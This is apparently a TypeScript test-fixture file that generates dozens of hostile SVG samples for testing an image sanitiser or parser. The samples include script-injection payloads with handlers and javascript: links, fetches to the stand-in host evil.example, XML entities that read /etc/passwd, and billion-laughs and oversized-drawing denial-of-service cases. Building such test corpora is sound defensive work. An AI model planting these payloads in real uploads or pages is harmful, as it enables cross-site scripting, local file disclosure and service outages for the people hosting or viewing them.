import { gzipSync } from 'node:zlib';
import type { MaliciousFile } from './files.ts';

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const createSvg = (content: string, size = 'width="60" height="40"') =>
  `<svg ${NS} ${size}><rect width="30" height="40" fill="#c00"/>${content}</svg>`;

/** SVGs that try to run scripts, fetch URLs, read files, expand without limit, or look like another format to other parsers. */
export function createMaliciousSvgs(): MaliciousFile[] {
  const sources: Record<string, string> = {
    'a script': createSvg('<script>alert(1)</script>'),
    'a script from elsewhere': createSvg('<script xlink:href="https://evil.example/x.js"/>'),
    'a script in another case': createSvg('<SCRIPT>alert(1)</SCRIPT>'),
    'a script under a prefix': createSvg('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>'),
    'a handler of its loading': `<svg ${NS} onload="alert(1)" width="60" height="40"><rect width="9" height="9"/></svg>`,
    'a handler of a press': createSvg('<rect onclick="alert(1)" onmouseover="alert(1)" width="9" height="9"/>'),
    'a page inside': createSvg(
      '<foreignObject width="60" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>',
    ),
    'a link that runs': createSvg('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    'a link that runs, spelled in numbers': createSvg(
      '<a href="&#106;&#97;vascript:alert(1)"><rect width="9" height="9"/></a>',
    ),
    'a image from elsewhere': createSvg('<image href="https://evil.example/x.png" width="9" height="9"/>'),
    'a image of a file': createSvg('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
    'a image in itself': createSvg('<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>'),
    'a part from elsewhere': createSvg('<use href="https://evil.example/x.svg#a"/>'),
    'a part of a file': createSvg('<use xlink:href="file:///etc/passwd#a"/>'),
    'a style from elsewhere': createSvg('<style>@import url(https://evil.example/x.css);</style>'),
    'a style that fetches': createSvg('<style>rect{fill:url(https://evil.example/x.svg#a)}</style>'),
    'a style that fetches, spelled with a backslash': createSvg(
      '<style>rect{fill:u\\72l(https://evil.example/x)}</style>',
    ),
    'a style attribute that fetches': createSvg(
      '<rect style="background:url(//evil.example/x)" width="9" height="9"/>',
    ),
    'a sheet before it': `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>${createSvg('')}`,
    'an animated link': createSvg(
      '<a><animate attributeName="href" values="javascript:alert(1)"/><rect width="9" height="9"/></a>',
    ),
    'a changed handler': createSvg('<set attributeName="onload" to="alert(1)"/>'),
    'a script in a literal': createSvg('<style><![CDATA[</style><script>alert(1)</script>]]></style>'),
    'a literal that opens a script': createSvg('<![CDATA[<]]>script>alert(1)<![CDATA[<]]>/script>'),
    'laughs without end': `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${createSvg('<text>&c;</text>')}`,
    'an entity that reads a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${createSvg('<text>&x;</text>')}`,
    'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>${createSvg('')}`,
    'an undefined entity': createSvg('<text>&missing;</text>'),
    '16000 by 16000 dots': createSvg('', 'width="16000" height="16000"'),
    '1e9 by 1e9 dots': createSvg('', 'width="1e9" height="1e9"'),
    'no size at all': createSvg('', 'width="0" height="0"'),
    'parts of parts of parts': createSvg(createNestedUses()),
    'a million shapes': createSvg('<rect width="1" height="1"/>'.repeat(60_000)),
    'a deep hole': createSvg(`${'<g>'.repeat(5000)}${'</g>'.repeat(5000)}`),
    'a filter': createSvg(
      '<filter id="f"><feImage href="https://evil.example/x"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
    'UTF-7': '<?xml version="1.0" encoding="UTF-7"?>+ADw-svg onload+AD0AIg-alert(1)+ACIAPg-',
    'another document behind it': `${createSvg('')}${createSvg('<script>alert(1)</script>')}`,
    'tags that do not match': `<svg ${NS} width="60" height="40"><g></svg></g>`,
    'an attribute without quotes': `<svg ${NS} width=60 height=40 onload=alert(1)></svg>`,
    HTML: '<!doctype html><html><script>alert(1)</script></html>',
  };
  const files = Object.entries(sources).map(([label, text]) => ({
    what: label,
    bytes: Buffer.from(text),
    marker: 'evil.example',
  }));
  const utf16 = Buffer.from(`\ufeff${createSvg('<script>alert(1)</script>')}`, 'utf16le');
  return [
    ...files,
    { what: 'UTF-16', bytes: utf16 },
    { what: 'a packed drawing', bytes: gzipSync(createSvg('')) },
    { what: 'a zero byte', bytes: Buffer.from(createSvg('<title>\0</title>')) },
  ];
}

function createNestedUses(): string {
  let parts = '<g id="p0"><rect width="1" height="1"/></g>';
  for (let n = 1; n < 12; n++) parts += `<g id="p${n}">${`<use xlink:href="#p${n - 1}"/>`.repeat(10)}</g>`;
  return `<defs>${parts}</defs><use xlink:href="#p11"/>`;
}
